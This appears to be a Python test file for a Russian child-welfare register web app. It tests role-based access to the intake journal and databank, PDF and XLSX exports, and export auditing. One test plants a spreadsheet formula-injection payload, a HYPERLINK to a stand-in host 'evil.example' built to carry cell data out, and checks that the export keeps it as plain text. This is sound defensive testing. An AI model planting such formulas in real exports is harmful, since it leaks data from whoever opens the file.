"""«Реестры»: the intake journal (Appendix 1) and the databank (Appendix 8) on screen, as PDF and as XLSX, with
their access rules and the audit of exports."""

from __future__ import annotations

import io
import re
from datetime import date

from openpyxl import load_workbook
from sqlalchemy import select

from engine.models import Agency, AuditEvent, Municipality
from sop.models import Case

from .test_sop_service import SIGNAL
from .test_web_cases import OTHER_FAMILY, client_of, web  # noqa: F401 - `web` is the app fixture

PERIOD = {"from": "2025-01-01", "to": "2025-12-31"}


def recognise(engine, case_id, on=date(2025, 11, 12), closed=None):
    with engine.db.session() as db:
        case = db.get(Case, case_id)
        case.status, case.recognized_on, case.criteria = ("closed" if closed else "recognized"), on, ["c2"]
        if closed:
            case.closed_on, case.closure_grounds = closed, "improved"


def ids(engine):
    with engine.db.session() as db:
        agencies = dict(db.execute(select(Agency.name, Agency.id)).all())
        municipalities = dict(db.execute(select(Municipality.name, Municipality.id)).all())
    return agencies, municipalities


def exports(engine):
    with engine.db.session() as db:
        return [(e.actor, e.object_id, e.details["format"]) for e in db.scalars(
            select(AuditEvent).where(AuditEvent.action == "register_exported").order_by(AuditEvent.id))]


def test_journal_of_the_own_agency_and_of_any_agency_for_the_commission(web):  # noqa: F811
    engine = web.extensions["kurator"]
    engine.sop.register_intake("school", SIGNAL)
    agencies, _ = ids(engine)
    school = client_of(web, "school")
    page = school.get("/registers", query_string=PERIOD).get_data(as_text=True)
    assert "Журнал первичного учета" in page and "Иванова Анна Сергеевна" in page and "Школа № 5" in page
    assert "Банк данных" not in page  # agency staff have no databank
    assert school.get("/registers", query_string={"agency": agencies["ОМВД"]}).status_code == 404
    assert school.get("/registers/databank.xlsx").status_code == 403
    secretary = client_of(web, "secretary")
    police_journal = secretary.get("/registers", query_string={**PERIOD, "agency": agencies["ОМВД"]})
    assert police_journal.status_code == 200 and "За период записей нет" in police_journal.get_data(as_text=True)
    own = secretary.get("/registers", query_string={**PERIOD, "agency": agencies["КДНиЗП"]}).get_data(as_text=True)
    assert "Иванова Анна Сергеевна" in own  # the signal forwarded to the commission's journal
    pdf = school.get("/registers/journal.pdf", query_string=PERIOD)
    assert pdf.status_code == 200 and pdf.data.startswith(b"%PDF")
    assert pdf.headers["Content-Disposition"].startswith("attachment;")
    assert exports(engine) == [("school", "intake_journal", "pdf")]
    other = client_of(web, "vsecretary")
    assert other.get("/registers/journal.pdf", query_string={"agency": agencies["Школа № 5"]}).status_code == 404


def test_databank_table_xlsx_and_pdf(web):  # noqa: F811
    engine = web.extensions["kurator"]
    first = engine.sop.register_intake("school", SIGNAL)
    second = engine.sop.register_intake("police", OTHER_FAMILY, new_family=True)
    engine.sop.register_intake("police", dict(OTHER_FAMILY, children=[{"last_name": "Сидоров", "first_name": "Ян",
                                                                       "birth_date": "2014-01-01"}],
                                              address="ул. Лесная, 1"), new_family=True)  # not recognised
    recognise(engine, first.case_id)
    recognise(engine, second.case_id, on=date(2025, 3, 1), closed=date(2025, 6, 30))
    client = client_of(web, "secretary")
    page = client.get("/registers", query_string={"register": "databank", **PERIOD}).get_data(as_text=True)
    assert "Иванов Петр Андреевич" in page and "Петров Олег" in page and "Сидоров" not in page
    assert "устранение обстоятельств" in page  # the ground of removal, in words
    open_only = client.get("/registers", query_string={"register": "databank", "status": "open", **PERIOD})
    assert "Петров Олег" not in open_only.get_data(as_text=True)
    later = client.get("/registers", query_string={"register": "databank", "from": "2025-07-01", "to": "2025-12-31"})
    assert "Петров Олег" not in later.get_data(as_text=True)  # removed before the period

    xlsx = client.get("/registers/databank.xlsx", query_string={"status": "open", **PERIOD})
    assert xlsx.status_code == 200 and xlsx.headers["Content-Disposition"].startswith("attachment;")
    sheet = load_workbook(io.BytesIO(xlsx.data)).active
    rows = [row for row in sheet.iter_rows(min_row=5, values_only=True) if any(row)]
    assert len(rows) == 1
    assert rows[0][:4] == (1, "Йошкар-Ола", "Иванов Петр Андреевич", rows[0][3])
    assert rows[0][3].date() == date(2012, 3, 12) and rows[0][9].date() == date(2025, 11, 12)
    header = next(sheet.iter_rows(min_row=4, max_row=4, values_only=True))
    assert len(header) == 12 and "Причина снятия с учета" in header  # Appendix 8 columns, nothing more
    assert not any("1/2025" in str(cell) for row in rows for cell in row)  # no case numbers

    pdf = client.get("/registers/databank.pdf", query_string=PERIOD)
    assert pdf.status_code == 200 and pdf.data.startswith(b"%PDF")
    assert exports(engine) == [("secretary", "databank", "xlsx"), ("secretary", "databank", "pdf")]


def test_regional_secretary_chooses_a_municipality_and_sees_no_journal(web):  # noqa: F811
    engine = web.extensions["kurator"]
    result = engine.sop.register_intake("school", SIGNAL)
    recognise(engine, result.case_id)
    _, municipalities = ids(engine)
    client = client_of(web, "regional")
    page = client.get("/registers", query_string=PERIOD).get_data(as_text=True)
    assert "Банк данных" in page and "Волжск" in page and "Йошкар-Ола" in page
    assert "Журнал первичного учета поступающей" not in page
    chosen = client.get("/registers", query_string={**PERIOD, "municipality": municipalities["Йошкар-Ола"]})
    assert "Иванов Петр Андреевич" in chosen.get_data(as_text=True)
    assert f"/cases/{result.case_id}" not in chosen.get_data(as_text=True)  # no links to case files
    xlsx = client.get("/registers/databank.xlsx", query_string={**PERIOD, "municipality": municipalities["Йошкар-Ола"]})
    assert xlsx.status_code == 200
    assert client.get("/registers/journal.pdf").status_code == 403
    assert client.get("/registers", query_string={"register": "journal"}).status_code == 200  # falls back
    # a municipal secretary may not read another municipality's databank
    other = client_of(web, "vsecretary")
    assert other.get("/registers/databank.xlsx",
                     query_string={"municipality": municipalities["Йошкар-Ола"]}).status_code == 404


def test_registers_are_closed_to_other_roles(web):  # noqa: F811
    assert client_of(web, "admin").get("/registers").status_code == 403
    # a curator, like all agency staff, sees their own agency's journal (004 §4.3) but not the databank
    curator = client_of(web, "curator1")
    assert curator.get("/registers").status_code == 200
    assert curator.get("/registers/databank.xlsx").status_code == 403


def test_bad_period_is_reported_not_fatal(web):  # noqa: F811
    client = client_of(web, "secretary")
    response = client.get("/registers", query_string={"from": "вчера"})
    assert response.status_code == 200 and "Период указан неверно" in response.get_data(as_text=True)


def test_a_formula_typed_into_a_signal_stays_text_in_the_databank_xlsx(web):  # noqa: F811
    import zipfile

    engine = web.extensions["kurator"]
    evil = '=HYPERLINK("http://evil.example/?d="&A3,"Открыть")'
    first = engine.sop.register_intake("school", dict(SIGNAL, address=evil))
    recognise(engine, first.case_id)
    xlsx = client_of(web, "secretary").get("/registers/databank.xlsx", query_string=PERIOD)
    assert xlsx.status_code == 200
    book = load_workbook(io.BytesIO(xlsx.data))
    cells = [c for row in book.active.iter_rows(min_row=5) for c in row if c.value == evil]
    assert cells and all(c.data_type == "s" for c in cells)
    with zipfile.ZipFile(io.BytesIO(xlsx.data)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet_xml  # no formula anywhere: the text is an inline string
    assert re.search(r't="inlineStr"><is><t>=HYPERLINK', sheet_xml)


def test_formula_like_text_is_a_string_cell_in_write_only_sheets():
    from openpyxl import Workbook

    from webapp.spreadsheets import text_row

    book = Workbook(write_only=True)
    ws = book.create_sheet("x")
    row = text_row(ws, ["=1+1", "+7", "-2", "@SUM(A1)", "\tx", "обычный текст", 5])
    ws.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    values = next(load_workbook(io.BytesIO(buffer.getvalue())).active.iter_rows(values_only=False))
    assert [c.data_type for c in values[:5]] == ["s"] * 5
    assert [c.value for c in values] == ["=1+1", "+7", "-2", "@SUM(A1)", "\tx", "обычный текст", 5]
